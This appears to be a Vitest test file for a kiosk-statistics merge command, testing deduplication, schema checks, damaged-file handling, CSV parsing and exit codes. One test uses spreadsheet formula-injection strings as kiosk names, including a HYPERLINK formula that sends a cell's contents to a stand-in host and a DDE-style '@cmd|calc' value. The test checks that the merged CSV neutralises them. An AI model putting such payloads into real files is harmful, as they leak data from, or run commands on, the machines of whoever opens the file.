/**
 * The coordinators' merge command (electron/services/statistics-cli.ts) on real files in
 * fresh folders: duplicates, mixed schema versions, broken files, CSV read back, names a
 * spreadsheet would run as formulas, and the command's own exit codes in a child process.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createRequire } from 'node:module';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  CSV_HISTOGRAM_MEASURES,
  CsvFormatError,
  CsvRecordReader,
  csvExportTime,
  findExportFiles,
  mergeStatisticsFiles,
  parseStatisticsCsv,
  parseStatsArguments,
  runStatsCli,
  unprefixCsvText,
  type ExportFileRef,
  type InputProblem,
  type StatsCliIo,
} from '../../../electron/services/statistics-cli';
import {
  CSV_HEADER,
  SESSION_SECONDS_BUCKETS,
  WAIT_SECONDS_BUCKETS,
  buildStatisticsExport,
  eachDay,
  emptyDailyFigures,
  exportCsvRows,
  exportToCsv,
  exportToJson,
  histogramOf,
  nearestRank,
  type DailyFigures,
  type StatisticsExport,
} from '../../../shared/statistics';

const repositoryRoot = fileURLToPath(new URL('../../../', import.meta.url));

let folder: string;

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'epn-stats-cli-'));
});

afterEach(() => {
  rmSync(folder, { recursive: true, force: true });
});

/** A day with `sessions` sessions, every count large enough to be published as it is. */
function busyDay(day: string, sessions: number, durationSeconds = 900): DailyFigures {
  const figures = emptyDailyFigures(day);
  const durations = Array.from({ length: sessions }, (_, index) => durationSeconds + index);
  const waits = [40, 50, 70];
  figures.sessions = sessions;
  figures.sessionSeconds = {
    total: durations.reduce((sum, value) => sum + value, 0),
    median: nearestRank(durations, 0.5),
    p90: nearestRank(durations, 0.9),
    histogram: histogramOf(SESSION_SECONDS_BUCKETS, durations),
  };
  figures.endReasons = { visitor: sessions };
  figures.serviceOpenings = { 'tax-on-web': sessions };
  figures.languages = { fr: sessions };
  figures.help = { requests: 3, acknowledged: 3, resolved: 3, cancelled: 0, waitSeconds: { median: nearestRank(waits, 0.5), p90: nearestRank(waits, 0.9), histogram: histogramOf(WAIT_SECONDS_BUCKETS, waits) } };
  figures.wipes = { total: sessions, unverified: 0 };
  return figures;
}

interface ExportSpec {
  readonly kioskId: string;
  readonly name?: string;
  readonly site?: string;
  readonly from: string;
  readonly to: string;
  readonly exportedAt: string;
  /** Sessions on each day of the period. */
  readonly sessions: number;
}

function exportOf(spec: ExportSpec): StatisticsExport {
  return buildStatisticsExport({
    kioskId: spec.kioskId,
    kiosk: { name: spec.name ?? 'PC 1', site: spec.site ?? 'EPN de Namur' },
    exportedAt: spec.exportedAt,
    period: { from: spec.from, to: spec.to },
    threshold: 3,
    days: eachDay(spec.from, spec.to).map((day) => busyDay(day, spec.sessions)),
  });
}

function kioskId(number: number): string {
  return number.toString(16).padStart(32, '0');
}

function write(relativePath: string, content: string | Uint8Array): string {
  const path = join(folder, relativePath);
  mkdirSync(join(path, '..'), { recursive: true });
  writeFileSync(path, content);
  return path;
}

interface CapturedRun {
  readonly code: number;
  readonly stdout: string;
  readonly stderr: string;
}

async function runInFolder(args: readonly string[]): Promise<CapturedRun> {
  let stdout = '';
  let stderr = '';
  const io: StatsCliIo = {
    stdout: (text) => (stdout += text),
    stderr: (text) => (stderr += text),
    now: () => new Date('2026-02-01T10:00:00Z'),
    cwd: folder,
  };
  const code = await runStatsCli(args, io);
  return { code, stdout, stderr };
}

/** The sessions of each day of the network series in the merged CSV ("network,,,,<day>,sessions,,<value>,<at least>"). */
function networkSessionsByDay(csv: string): Map<string, string> {
  const rows = new Map<string, string>();
  for (const line of csv.split('\r\n')) {
    const match = /^network,,,,(\d{4}-\d{2}-\d{2}),sessions,,(\d+),(yes|no)$/.exec(line);
    if (match) rows.set(match[1]!, `${match[2]}${match[3] === 'yes' ? '+' : ''}`);
  }
  return rows;
}

describe('parseStatsArguments', () => {
  it('reads merge, the inputs, --out and puts the merged CSV beside the report by default', () => {
    const parsed = parseStatsArguments(['merge', 'exports', 'more/pc-1.json', '--out', 'out/report.html'], '/work');
    expect(parsed).toEqual({
      kind: 'merge',
      options: { inputs: ['exports', 'more/pc-1.json'], out: '/work/out/report.html', csv: '/work/out/report.csv', title: 'EPN network statistics' },
    });
    const withCsv = parseStatsArguments(['merge', 'a', '--out', 'r.html', '--csv', 'figures/all.csv', '--title', '  Réseau EPN 2025 '], '/work');
    expect(withCsv).toMatchObject({ kind: 'merge', options: { csv: '/work/figures/all.csv', title: 'Réseau EPN 2025' } });
  });

  it.each([
    [[], 'no command'],
    [['report', 'a', '--out', 'r.html'], 'unknown command "report"'],
    [['merge', '--out', 'r.html'], 'at least one export'],
    [['merge', 'exports'], 'needs --out'],
    [['merge', 'exports', '--out', 'r.html', '--csv', 'r.html'], 'the same file'],
    [['merge', 'exports', '--out', 'r.html', '--colour'], "Unknown option '--colour'"],
    [['merge', 'exports', '--out'], "Option '-o, --out <value>' argument missing"],
  ])('refuses %j: %s', (argv, message) => {
    const parsed = parseStatsArguments(argv, '/work');
    expect(parsed.kind).toBe('error');
    expect(parsed.kind === 'error' && parsed.message).toContain(message);
  });

  it('answers --help', () => {
    expect(parseStatsArguments(['--help'])).toEqual({ kind: 'help' });
  });
});

describe('the same kiosk and day counted once', () => {
  it('merges one export given twice, as JSON and as CSV, as if it were given once', async () => {
    const once = exportOf({ kioskId: kioskId(1), from: '2025-03-01', to: '2025-03-10', exportedAt: '2025-03-11T08:00Z', sessions: 12 });
    write('json/pc-1.json', exportToJson(once));
    write('csv/pc-1.csv', exportToCsv(once));
    const run = await runInFolder(['merge', 'json', 'csv', '--out', 'report.html']);
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('merged 2 files, skipped 0 files: 1 kiosk, 1 site, 10 days (2025-03-01 to 2025-03-10)');

    const merged = await mergeStatisticsFiles(['json', 'csv'], { cwd: folder });
    expect(merged.report.network.figures.sessions).toEqual({ value: 10 * 12, atLeast: false });
    expect(merged.report.duplicateKioskDays).toBe(10);
    // The JSON export wins (a CSV is taken as made at the start of its last day): its histograms keep the medians exact.
    expect(merged.report.network.figures.sessionSeconds.histogram.map((count) => count.value)).toEqual(histogramOf(SESSION_SECONDS_BUCKETS, Array.from({ length: 120 }, (_, index) => 900 + (index % 12))));
    const sessions = networkSessionsByDay(readFileSync(join(folder, 'report.csv'), 'utf8'));
    expect([...sessions.values()]).toEqual(new Array(10).fill('12'));
  });

  it('keeps, for days in two overlapping periods, the figures of the later export, in whatever order the files come', async () => {
    const early = exportOf({ kioskId: kioskId(2), from: '2025-01-01', to: '2025-01-10', exportedAt: '2025-01-11T09:00Z', sessions: 10 });
    const late = exportOf({ kioskId: kioskId(2), from: '2025-01-06', to: '2025-01-15', exportedAt: '2025-01-16T09:00Z', sessions: 20 });
    write('a-late.json', exportToJson(late));
    write('b-early.json', exportToJson(early));
    const merged = await mergeStatisticsFiles(['.'], { cwd: folder });
    expect(merged.report.network.series.map((point) => point.sessions.value)).toEqual([...new Array(5).fill(10), ...new Array(10).fill(20)]);
    expect(merged.report.network.figures.sessions.value).toBe(5 * 10 + 10 * 20);
    expect(merged.report.duplicateKioskDays).toBe(5);
    expect(merged.included.map((file) => file.path)).toEqual([`${folder.split('/').pop()}/a-late.json`, `${folder.split('/').pop()}/b-early.json`]);
  });

  it('takes two kiosks with the same name at the same site as two kiosks', async () => {
    write('pc-1-a.json', exportToJson(exportOf({ kioskId: kioskId(3), from: '2025-02-01', to: '2025-02-02', exportedAt: '2025-02-03T00:00Z', sessions: 4 })));
    write('pc-1-b.json', exportToJson(exportOf({ kioskId: kioskId(4), from: '2025-02-01', to: '2025-02-02', exportedAt: '2025-02-03T00:00Z', sessions: 5 })));
    const merged = await mergeStatisticsFiles(['.'], { cwd: folder });
    expect(merged.report.network.kioskCount).toBe(2);
    expect(merged.report.network.figures.sessions.value).toBe(2 * 4 + 2 * 5);
    expect(merged.report.duplicateKioskDays).toBe(0);
  });
});

describe('files that cannot be merged are named and skipped', () => {
  it('skips schema version 2, in JSON and in CSV, and merges the rest', async () => {
    const good = exportOf({ kioskId: kioskId(5), from: '2025-04-01', to: '2025-04-03', exportedAt: '2025-04-04T08:00Z', sessions: 6 });
    write('good.json', exportToJson(good));
    write('newer.json', exportToJson({ ...good, kioskId: kioskId(6), schemaVersion: 2 as 1 }));
    write('newer.csv', exportToCsv(good).replace(/\r\n1,/g, '\r\n2,'));
    const run = await runInFolder(['merge', '.', '--out', 'report.html']);
    expect(run.code).toBe(0);
    const lines = run.stderr.trim().split('\n');
    expect(lines).toHaveLength(2);
    expect(lines).toContainEqual(expect.stringMatching(/^stats: skipped newer\.csv: unknown schema version: schema_version 2 is not known: this program reads schema version 1/));
    expect(lines).toContainEqual(expect.stringMatching(/^stats: skipped newer\.json: unknown schema version: schemaVersion: 2 is not known/));
    expect(run.stdout).toContain('merged 1 file, skipped 2 files: 1 kiosk, 1 site, 3 days');
    const html = readFileSync(join(folder, 'report.html'), 'utf8');
    expect(html).toContain('newer.json</th><td>unknown schema version');
  });

  it('skips a truncated file, wrong types, an empty file, binary garbage and an empty folder, each with its reason', async () => {
    const good = exportOf({ kioskId: kioskId(7), from: '2025-05-01', to: '2025-05-02', exportedAt: '2025-05-03T08:00Z', sessions: 9 });
    const text = exportToJson(good);
    write('ok/good.json', text);
    write('bad/truncated.json', text.slice(0, Math.floor(text.length / 2)));
    const wrongTypes = JSON.parse(text) as { days: { sessions: unknown }[]; kiosk: { name: unknown } };
    wrongTypes.days[1]!.sessions = '9';
    wrongTypes.kiosk.name = 42;
    write('bad/wrong-types.json', JSON.stringify({ ...wrongTypes, kioskId: kioskId(8) }));
    write('bad/empty.json', '');
    write('bad/empty.csv', '');
    write('bad/garbage.json', Uint8Array.from({ length: 600 }, (_, index) => (index * 97 + 13) % 256));
    write('bad/latin1.csv', Buffer.from([...Buffer.from(CSV_HEADER.join(',') + '\r\n1,'), 0xe9, 0xe9, 0x0d, 0x0a]));
    write('bad/not-an-export.json', '{"hello": "world"}');
    mkdirSync(join(folder, 'nothing', 'deeper'), { recursive: true });
    write('nothing/deeper/readme.txt', 'not an export');

    const run = await runInFolder(['merge', 'ok', 'bad', 'nothing', 'missing', '--out', 'report.html']);
    expect(run.code).toBe(0);
    const reasons = new Map(
      run.stderr
        .trim()
        .split('\n')
        .map((line) => /^stats: skipped (\S+): (.*)$/.exec(line)!)
        .map((match) => [match[1]!, match[2]!]),
    );
    expect(reasons.get(join('bad', 'truncated.json'))).toMatch(/^not valid JSON \(.*\): truncated or damaged\?$/);
    expect(reasons.get(join('bad', 'wrong-types.json'))).toMatch(/^not a valid export: .*kiosk\.name: must be a text.*days\[1\] \(2025-05-02\)\.sessions: /);
    expect(reasons.get(join('bad', 'empty.json'))).toBe('empty file');
    expect(reasons.get(join('bad', 'empty.csv'))).toBe('empty file');
    expect(reasons.get(join('bad', 'garbage.json'))).toBe('binary data, not a text export');
    expect(reasons.get(join('bad', 'latin1.csv'))).toBe('not UTF-8 text: not an export');
    expect(reasons.get(join('bad', 'not-an-export.json'))).toMatch(/^not a statistics export: format: is missing/);
    expect(reasons.get('nothing')).toBe('no .json or .csv files in this folder');
    expect(reasons.get('missing')).toBe('not found');
    expect(reasons.size).toBe(9);
    expect(run.stdout).toContain('merged 1 file, skipped 9 files: 1 kiosk, 1 site, 2 days');
    const merged = await mergeStatisticsFiles(['ok', 'bad'], { cwd: folder });
    expect(merged.report.network.figures.sessions).toEqual({ value: 18, atLeast: false });
  });

  it('exits 1 and writes nothing when no file could be merged', async () => {
    write('exports/broken.json', '{"format": "epn-kiosk-statistics", "schemaVersion": 1, "kioskId": ');
    const run = await runInFolder(['merge', 'exports', '--out', 'report.html']);
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/stats: skipped exports\/broken\.json: not valid JSON/);
    expect(run.stderr).toContain('merged 0 files, skipped 1 file: 0 kiosks, 0 sites, no days with figures. No export could be merged: nothing written.');
    expect(existsSync(join(folder, 'report.html'))).toBe(false);
    expect(existsSync(join(folder, 'report.csv'))).toBe(false);
  });

  it('does not read back its own merged CSV, and names another one as not a kiosk export', async () => {
    write('exports/pc-1.json', exportToJson(exportOf({ kioskId: kioskId(9), from: '2025-06-01', to: '2025-06-02', exportedAt: '2025-06-03T08:00Z', sessions: 3 })));
    const first = await runInFolder(['merge', 'exports', '--out', 'exports/report.html']);
    expect(first.code).toBe(0);
    const again = await runInFolder(['merge', 'exports', '--out', 'exports/report.html']);
    expect(again.stderr).toBe('');
    expect(again.stdout).toContain('merged 1 file, skipped 0 files');
    const elsewhere = await runInFolder(['merge', 'exports', '--out', 'other.html']);
    expect(elsewhere.stderr).toBe('stats: skipped exports/report.csv: not a valid CSV export: a merged CSV made by this command, not a kiosk export\n');
  });
});

describe('finding the files', () => {
  it('searches folders recursively in name order, ignores other files, and reads a file named twice once', async () => {
    const text = exportToJson(exportOf({ kioskId: kioskId(10), from: '2025-07-01', to: '2025-07-01', exportedAt: '2025-07-02T08:00Z', sessions: 3 }));
    write('net/b-site/pc-2.json', text);
    write('net/a-site/pc-1.JSON', text);
    write('net/a-site/deep/er/pc-3.csv', 'x');
    write('net/a-site/notes.txt', 'notes');
    write('net/report.html', '<html>');
    const problems: InputProblem[] = [];
    const found: ExportFileRef[] = [];
    for await (const file of findExportFiles(['net', 'net/b-site/pc-2.json', 'net/a-site/notes.txt'], (problem) => problems.push(problem), new Set(), folder)) found.push(file);
    expect(found.map((file) => [file.shown, file.display, file.format])).toEqual([
      [join('net', 'a-site', 'deep', 'er', 'pc-3.csv'), 'net/a-site/deep/er/pc-3.csv', 'csv'],
      [join('net', 'a-site', 'pc-1.JSON'), 'net/a-site/pc-1.JSON', 'json'],
      [join('net', 'b-site', 'pc-2.json'), 'net/b-site/pc-2.json', 'json'],
    ]);
    expect(problems).toEqual([{ shown: 'net/a-site/notes.txt', display: 'notes.txt', reason: 'not a .json or .csv file' }]);
  });

  it.skipIf(process.platform === 'win32')('does not go round a symbolic link back to a folder it is already in', async () => {
    write('net/site/pc-1.json', exportToJson(exportOf({ kioskId: kioskId(11), from: '2025-07-01', to: '2025-07-01', exportedAt: '2025-07-02T08:00Z', sessions: 3 })));
    symlinkSync(join(folder, 'net'), join(folder, 'net', 'site', 'loop'));
    const found: string[] = [];
    for await (const file of findExportFiles(['net'], () => undefined, new Set(), folder)) found.push(file.display);
    expect(found).toEqual(['net/site/pc-1.json']);
  });
});

describe('CSV exports read back', () => {
  const statistics = exportOf({ kioskId: kioskId(12), name: 'PC "Accueil", 1', site: 'EPN\nde Liège', from: '2025-08-01', to: '2025-08-03', exportedAt: '2025-08-04T08:00Z', sessions: 7 });

  it('gives back the JSON export, except the histograms a version 1 CSV does not carry', () => {
    const parsed = parseStatisticsCsv(exportToCsv(statistics));
    expect(parsed.ok).toBe(true);
    if (!parsed.ok) return;
    expect(parsed.notes).toEqual({ exportedAtSource: 'period-end', histograms: false, suppressionThreshold: null });
    expect(parsed.export.kioskId).toBe(statistics.kioskId);
    expect(parsed.export.kiosk).toEqual(statistics.kiosk);
    expect(parsed.export.period).toEqual(statistics.period);
    expect(parsed.export.exportedAt).toBe(csvExportTime('2025-08-03'));
    const withoutHistograms = (days: StatisticsExport['days']) =>
      days.map((day) => ({ ...day, sessionSeconds: { ...day.sessionSeconds, histogram: [] }, help: { ...day.help, waitSeconds: { ...day.help.waitSeconds, histogram: [] } } }));
    expect(withoutHistograms(parsed.export.days)).toEqual(withoutHistograms(statistics.days));
    expect(parsed.export.days.every((day) => day.sessionSeconds.histogram.every((count) => count === 0))).toBe(true);
  });

  it('gives back the histograms too when the CSV has their rows', () => {
    const rows = exportCsvRows(statistics);
    const withHistograms = [rows[0]!];
    for (const row of rows.slice(1)) {
      withHistograms.push(row);
      if (row[5] !== 'wipes_unverified') continue;
      const day = statistics.days.find((figures) => figures.day === row[4])!;
      for (const [measure, bounds] of Object.entries(CSV_HISTOGRAM_MEASURES)) {
        const histogram = measure === 'session_seconds_histogram' ? day.sessionSeconds.histogram : day.help.waitSeconds.histogram;
        bounds.forEach((bound, index) => withHistograms.push([...row.slice(0, 5), measure, String(bound), histogram[index] === null ? 'suppressed' : String(histogram[index])]));
      }
    }
    const csv = withHistograms.map((row) => row.map((cell) => (/[",\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell)).join(',')).join('\r\n');
    const parsed = parseStatisticsCsv(csv);
    expect(parsed.ok && parsed.notes.histograms).toBe(true);
    expect(parsed.ok && parsed.export.days).toEqual(statistics.days);
  });

  it('reads names that a spreadsheet would run as formulas back as they were, and the merged CSV keeps them harmless', async () => {
    const names = ['=HYPERLINK("http://example.invalid/?"&A1,"Click")', '+SUM(1,2)', '-2+3', '@cmd|calc', '\tTab'];
    names.forEach((name, index) =>
      write(`formula-${index}.csv`, exportToCsv(exportOf({ kioskId: kioskId(20 + index), name: name.slice(0, 60), site: `=${name}`.slice(0, 80), from: '2025-09-01', to: '2025-09-01', exportedAt: '2025-09-02T08:00Z', sessions: 4 }))),
    );
    const written = readFileSync(join(folder, 'formula-0.csv'), 'utf8');
    expect(written).toContain(`"'=HYPERLINK(""http://example.invalid/?""&A1,""Click"")"`);
    const run = await runInFolder(['merge', '.', '--out', 'report.html']);
    expect(run.stderr).toBe('');
    const merged = await mergeStatisticsFiles(['.'], { cwd: folder, exclude: ['report.csv'] });
    expect(merged.report.kiosks.map((kiosk) => kiosk.name).sort()).toEqual([...names].sort());
    expect(merged.report.sites.map((site) => site.site).sort()).toEqual(names.map((name) => `=${name}`).sort());
    // Every cell of the merged CSV that a spreadsheet would run is prefixed.
    const cells: string[] = [];
    const reader = new CsvRecordReader();
    reader.push(readFileSync(join(folder, 'report.csv'), 'utf8'), (record) => cells.push(...record));
    reader.finish((record) => cells.push(...record));
    expect(cells.filter((cell) => /^[=+@\t\r]/.test(cell) || /^-\D/.test(cell))).toEqual([]);
    expect(cells).toContain(`'=${names[0]}`);
    expect(cells).toContain("'+SUM(1,2)");
    expect(unprefixCsvText("'-2+3")).toBe('-2+3');
    expect(unprefixCsvText("'plain")).toBe("'plain");
  });

  it.each([
    ['a second kiosk', (csv: string) => csv.replace(/\r\n(1,[0-9a-f]{32},)([^\r]*2025-08-03)/, `\r\n1,${kioskId(99)},$2`), /line \d+: rows of a second kiosk/],
    ['an unknown measure', (csv: string) => csv.replace(',wipes_unverified,', ',wipes_forgotten,'), /line \d+: unknown measure "wipes_forgotten"/],
    ['a value that is not a count', (csv: string) => csv.replace(/,sessions,,7\r\n/, ',sessions,,seven\r\n'), /line 2: sessions is "seven", not a count or "suppressed"/],
    ['a value given twice', (csv: string) => `${csv}1,${kioskId(12)},"PC ""Accueil"", 1","EPN\nde Liège",2025-08-01,sessions,,7\r\n`, /sessions of 2025-08-01 is given twice/],
    ['a missing measure', (csv: string) => csv.replace(/1,[0-9a-f]{32},"PC ""Accueil"", 1","EPN\nde Liège",2025-08-02,language_changes,,\d+\r\n/, ''), /days\[1\] \(2025-08-02\)\.languageChanges/],
    ['another header', (csv: string) => csv.replace('schema_version,kiosk_id', 'version,kiosk'), /not a statistics export: the first line is "version,kiosk/],
    ['a quote never closed', (csv: string) => `${csv}1,${kioskId(12)},"PC`, /a quoted field is never closed/],
  ])('refuses a CSV with %s, naming the line', (_what, spoil, message) => {
    const parsed = parseStatisticsCsv(spoil(exportToCsv(statistics)));
    expect(parsed.ok).toBe(false);
    expect(!parsed.ok && parsed.reason).toMatch(message);
  });
});

describe('CsvRecordReader', () => {
  const text = 'a,"b,c","say ""hi""\r\nthere",\r\n"",x\r\nplain,line\nlast';
  const expected = [
    ['a', 'b,c', 'say "hi"\r\nthere', ''],
    ['', 'x'],
    ['plain', 'line'],
    ['last'],
  ];

  function readAll(chunks: readonly string[]): { records: string[][]; lines: number[] } {
    const records: string[][] = [];
    const lines: number[] = [];
    const reader = new CsvRecordReader();
    const onRecord = (record: string[], line: number) => {
      records.push(record);
      lines.push(line);
    };
    for (const chunk of chunks) reader.push(chunk, onRecord);
    reader.finish(onRecord);
    return { records, lines };
  }

  it('reads quoted fields with commas, doubled quotes and line breaks, CRLF and LF', () => {
    expect(readAll([text])).toEqual({ records: expected, lines: [1, 3, 4, 5] });
  });

  it('gives the same records however the text is cut into chunks', () => {
    for (let size = 1; size <= 7; size += 1) {
      const chunks: string[] = [];
      for (let start = 0; start < text.length; start += size) chunks.push(text.slice(start, start + size));
      expect(readAll(chunks).records).toEqual(expected);
    }
  });

  it('refuses a quote inside an unquoted field and text after a closing quote', () => {
    expect(() => readAll(['a,b"c,d\r\n'])).toThrow(CsvFormatError);
    expect(() => readAll(['a,"b"c,d\r\n'])).toThrow(/text after the closing quote/);
  });
});

describe('the command in a child process', () => {
  function command(args: readonly string[]) {
    // As npm runs it, but from the exports' folder: tsx is named by its path.
    const tsx = pathToFileURL(createRequire(import.meta.url).resolve('tsx')).href;
    return spawnSync(process.execPath, ['--import', tsx, join(repositoryRoot, 'electron', 'services', 'statistics-cli.ts'), ...args], { cwd: folder, encoding: 'utf8', timeout: 60_000 });
  }

  it('exits 2 with the usage on bad usage, 1 when nothing merged, 0 when something merged', () => {
    const usage = command(['merge', 'exports']);
    expect(usage.status).toBe(2);
    expect(usage.stderr).toContain('stats: merge needs --out <report.html>');
    expect(usage.stderr).toContain('Usage: npm run stats -- merge <files or folders…> --out <report.html>');

    write('exports/broken.csv', 'schema_version,kiosk_id\r\n');
    const none = command(['merge', 'exports', '--out', 'report.html']);
    expect(none.status).toBe(1);
    expect(none.stderr).toContain('stats: skipped exports/broken.csv: not a valid CSV export: not a statistics export');

    write('exports/pc-1.json', exportToJson(exportOf({ kioskId: kioskId(30), from: '2025-10-01', to: '2025-10-31', exportedAt: '2025-11-01T08:00Z', sessions: 5 })));
    const some = command(['merge', 'exports', '--out', 'out/report.html']);
    expect(some.status).toBe(0);
    expect(some.stdout.trim().split('\n')).toEqual([
      `stats: merged 1 file, skipped 1 file: 1 kiosk, 1 site, 31 days (2025-10-01 to 2025-10-31). Report: ${join(folder, 'out', 'report.html')}. Merged CSV: ${join(folder, 'out', 'report.csv')}.`,
    ]);
    expect(readFileSync(join(folder, 'out', 'report.html'), 'utf8')).toMatch(/^<!doctype html>/);
    expect(readFileSync(join(folder, 'out', 'report.csv'), 'utf8')).toMatch(/^scope,site,kiosk_id,kiosk_name,day,measure,key,value,at_least\r\n/);
  });
});
